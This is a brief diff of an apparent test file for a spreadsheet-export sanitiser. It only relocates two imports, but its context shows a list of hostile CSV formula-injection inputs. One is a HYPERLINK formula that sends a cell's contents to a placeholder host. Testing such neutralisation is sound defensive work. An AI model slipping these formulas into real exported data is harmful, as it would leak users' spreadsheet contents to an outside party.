@@ -18,7 +18,7 @@ from blindspot.access import scope_for
 from blindspot.ingest.readers import Problem, echo
 from blindspot.spreadsheet import FORMULA_TRIGGERS, neutralise, neutralise_frame
 from blindspot.db.store import Store
-from blindspot.ingest.validation import problems_frame, report_csv
+from blindspot.ingest.report import problems_frame, report_csv
 
 T = 20243
 HOSTILE = ["=HYPERLINK(\"http://x/?\"&A1,\"클릭\")", "+1+2", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
